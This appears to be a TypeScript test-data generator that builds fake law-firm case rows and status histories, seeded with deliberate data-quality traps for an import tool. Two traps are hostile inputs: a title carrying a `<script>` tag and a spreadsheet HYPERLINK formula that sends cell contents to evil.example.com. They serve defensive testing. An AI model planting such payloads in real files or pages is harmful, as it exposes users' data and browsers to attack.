import {
  caseTypes,
  departedUser,
  firmUsers,
  samplePriorities,
  sampleStatuses,
  sampleUsers,
} from './firm-facts'
import type { CaseType, SampleStatus } from './firm-facts'
import { familyNames, givenNames } from './people-facts'
import { companiesOf, companyId, companyName, contactId, personAt, stretch, trapped } from './people'
import type { Firm } from './people'
import { dice, minutesOf, written } from './random'

export const caseHeader = [
  'Case No',
  'Case Title',
  'Case Type',
  'Status',
  'Priority',
  'Owner',
  'Client ID',
  'Company ID',
  'Opened',
  'Closed',
  'Description',
  'Client Ref',
  'Court',
  'Opposing Party',
  'Practice Area',
  'Fee Type',
  'Hourly Budget',
  'Retainer',
  'Conflict Checked',
  'Limitation Date',
  'Tags',
  'Record Link',
] as const

/** A case as the other files need to know it; `opened` and `closed` are the truth, which the row may hide. */
export type Matter = {
  readonly index: number
  readonly number: string
  readonly type: CaseType
  readonly status: SampleStatus
  readonly client: number // index of the contact
  readonly owner: string // e-mail
  readonly opened: number // minutes since 1970
  readonly closed: number | null
}

/** Places of the traps among each stretch of cases; tests name them too. */
export const caseTraps = {
  closedBeforeOpened: 3,
  openedFromHistory: 5,
  openedFromActivity: 6,
  openedFromDocument: 8,
  openedNowhere: 9,
  closedWithoutDate: 11,
  openWithClosedDate: 12,
  rowTwice: 13,
  clientMissing: 14,
  ownerDeparted: 15,
  ownerByName: 16,
  ownerUpperCase: 17,
  ownerEmpty: 18,
  formula: 19,
  nullWord: 20,
  longText: 21,
  hostileTitle: 22,
  manyScripts: 24,
} as const
export type CaseTrap = keyof typeof caseTraps

export const hasTrap = (firm: Firm, index: number, trap: CaseTrap): boolean =>
  trapped(firm, index, caseTraps[trap], stretch.cases)

const openedHidden: readonly CaseTrap[] = [
  'openedFromHistory',
  'openedFromActivity',
  'openedFromDocument',
  'openedNowhere',
]

const statusNamed = (closed: boolean, pick: number): SampleStatus => {
  const fitting = sampleStatuses.filter(status => status.closed === closed)
  const found = fitting[pick % fitting.length]
  if (found === undefined) throw new RangeError('The firm has no status of that kind.')
  return found
}

/** Case number `index` of the firm, from 0. */
export function matterAt(firm: Firm, index: number): Matter {
  const pick = dice(firm.seed, 'matter', index)
  const year = 2016 + Math.floor((index * 8) / Math.max(firm.cases, 1))
  // Day 23 in the first two cases proves the day/month order of every date column, however small the sample.
  const day = index < 2 ? 23 : pick.whole(1, 28)
  const opened = minutesOf(year, pick.whole(1, 12), day, pick.whole(8, 18), pick.whole(0, 59))
  const wantsClosed =
    index < 2 ||
    (['closedBeforeOpened', 'closedWithoutDate'] as const).some(trap => hasTrap(firm, index, trap))
  const wantsOpen = hasTrap(firm, index, 'openWithClosedDate')
  const status = statusNamed(wantsClosed || (!wantsOpen && pick.chance(0.55)), pick.whole(0, 44))
  const life = index < 2 ? 60 * 24 * 31 : pick.whole(5, 700) * 24 * 60
  const closed = index < 2 ? minutesOf(year, 11, 25 + index) + 60 * 24 * 366 : opened + life
  const owner = hasTrap(firm, index, 'ownerDeparted')
    ? departedUser.email
    : (pick.one(sampleUsers).email satisfies string)
  return {
    index,
    number: `${year}-${String(index + 1).padStart(5, '0')}`,
    type: pick.one(caseTypes),
    status,
    client: pick.whole(0, firm.contacts - 1),
    owner,
    opened,
    closed: status.closed ? closed : null,
  }
}

const courts: { readonly [type in CaseType]: readonly string[] } = {
  Litigation: ['High Court, Harbour Division', 'County Court at Quillford', 'Tribunal de commerce d’Orléans'],
  Conveyancing: [''],
  Employment: ['Employment Tribunal, Leeds', 'Arbeitsgericht Köln'],
  Family: ['Family Court at Brehon Square', 'Sąd Rodzinny w Poznaniu'],
  'M&A': [''],
}
const areas: { readonly [type in CaseType]: readonly string[] } = {
  Litigation: ['Commercial disputes', 'Debt recovery', 'Professional negligence'],
  Conveyancing: ['Residential property', 'Commercial property'],
  Employment: ['Unfair dismissal', 'Discrimination', 'Settlement agreements'],
  Family: ['Divorce', 'Children', 'Wills and estates'],
  'M&A': ['Share purchase', 'Due diligence'],
}
const tags = ['legal aid', 'urgent', 'cross-border', 'VIP', 'pro bono', 'insurance-funded'] as const

function titleOf(firm: Firm, matter: Matter, client: string, other: string): string {
  if (hasTrap(firm, matter.index, 'hostileTitle'))
    return `<script>alert('${client}')</script> v ${other} & Sons`
  if (hasTrap(firm, matter.index, 'manyScripts')) return `${client} ./. Ελευθερία Παπαδάκη – محكمة 東京 ⚖️`
  switch (matter.type) {
    case 'Litigation':
      return `${client} v ${other}`
    case 'Conveyancing':
      return `Purchase of ${(matter.index % 90) + 1} Harbour Row – ${client}`
    case 'Employment':
      return `${client}: dismissal by ${other}`
    case 'Family':
      return `Re ${client} (divorce and finances)`
    case 'M&A':
      return `Acquisition of ${other}`
    default:
      return matter.type satisfies never
  }
}

function descriptionOf(firm: Firm, matter: Matter, other: string): string {
  const first = `Instructed by the client about ${matter.type.toLowerCase()}.\nThe other side is ${other}; "without prejudice" letters are in the file.`
  if (!hasTrap(firm, matter.index, 'longText')) return matter.index % 5 === 0 ? '' : first
  const paragraph = `${first}\r\n\r\nThe chronology, the pleadings and the disclosure – façade, naïve, coöperate – follow, with commas, semicolons; and "quotes". `
  return paragraph.repeat(40).trim()
}

/** The owner as the row writes it: mostly an e-mail address, sometimes as people typed it. */
export function ownerWritten(firm: Firm, matter: Matter): string {
  if (hasTrap(firm, matter.index, 'ownerEmpty')) return ''
  if (hasTrap(firm, matter.index, 'ownerUpperCase')) return matter.owner.toUpperCase()
  if (!hasTrap(firm, matter.index, 'ownerByName')) return matter.owner
  return firmUsers.find(user => user.email === matter.owner)?.name ?? matter.owner
}

/** A row of cases.csv: dates day first, money with a pound sign, text over several lines. */
export function caseRow(firm: Firm, matter: Matter): readonly string[] {
  const { index } = matter
  const pick = dice(firm.seed, 'case-row', index)
  const has = (trap: CaseTrap): boolean => hasTrap(firm, index, trap)
  const person = personAt(firm, matter.client)
  const employer = companiesOf(firm, matter.client)[0]
  const client = `${person.first} ${person.last}`
  const otherPerson = `${familyNames[(index * 5) % familyNames.length]}, ${givenNames[(index * 3) % givenNames.length]}`
  const other = pick.chance(0.5) ? otherPerson : companyName(firm, pick.whole(0, firm.companies - 1))
  const priority = pick.one(samplePriorities)
  const closedOn = has('closedWithoutDate')
    ? null
    : has('closedBeforeOpened')
      ? matter.opened - 40 * 24 * 60
      : has('openWithClosedDate')
        ? matter.opened + 90 * 24 * 60
        : matter.closed
  const limitation = index === 0 ? minutesOf(2026, 8, 31) : matter.opened + pick.whole(200, 2200) * 24 * 60
  const first = pick.one(tags)
  const second = pick.one(tags)
  return [
    matter.number,
    titleOf(firm, matter, client, other),
    matter.type,
    matter.status.name,
    pick.chance(0.05) ? priority.toUpperCase() : priority,
    ownerWritten(firm, matter),
    has('clientMissing') ? '999999' : contactId(matter.client),
    employer === undefined ? '' : companyId(employer.company),
    openedHidden.some(has) ? '' : written(matter.opened, 'd/m/y h:m'),
    closedOn === null ? '' : written(closedOn, 'd/m/y'),
    descriptionOf(firm, matter, other),
    String(pick.whole(100, 99_999)).padStart(7, '0'),
    has('nullWord') ? 'NULL' : pick.one(courts[matter.type]),
    has('formula') ? '=HYPERLINK("https://evil.example.com/?"&A2,"Open")' : other,
    pick.one(areas[matter.type]),
    pick.one(['Hourly', 'Fixed fee', 'Conditional', 'Legal aid']),
    `£${pick.whole(1, 4)},${String(pick.whole(0, 999)).padStart(3, '0')}.${pick.one(['00', '50'])}`,
    pick.chance(0.3) ? '' : `${pick.whole(500, 25_000)}.00`,
    pick.chance(0.9) ? 'Yes' : 'No',
    index === 0 || pick.chance(0.6) ? written(limitation, 'd/m/y') : '',
    pick.chance(0.4) ? '' : first === second ? first : `${first}; ${second}`,
    `https://casemanager.example.com/matters/${matter.number}`,
  ]
}

/** The statuses a case went through, oldest first; empty where the firm kept no history. */
export function historyOf(firm: Firm, matter: Matter): readonly (readonly string[])[] {
  const { index } = matter
  if (
    (['openedFromActivity', 'openedFromDocument', 'openedNowhere'] as const).some(trap =>
      hasTrap(firm, index, trap),
    )
  ) {
    return []
  }
  const path = sampleStatuses.filter(
    status =>
      status === matter.status ||
      (!status.closed && status.order < matter.status.order && status.order !== 50),
  )
  const span = (matter.closed ?? matter.opened + 60 * 24 * 60) - matter.opened
  return path.map((status, at) => [
    matter.number,
    path[at - 1]?.name ?? '',
    status.name,
    written(
      at === 0 ? matter.opened : Math.floor(matter.opened + (span * at) / Math.max(path.length - 1, 1)),
      'iso',
    ),
    matter.owner,
  ])
}
export const historyHeader = ['Case No', 'From Status', 'To Status', 'Changed At', 'Changed By'] as const
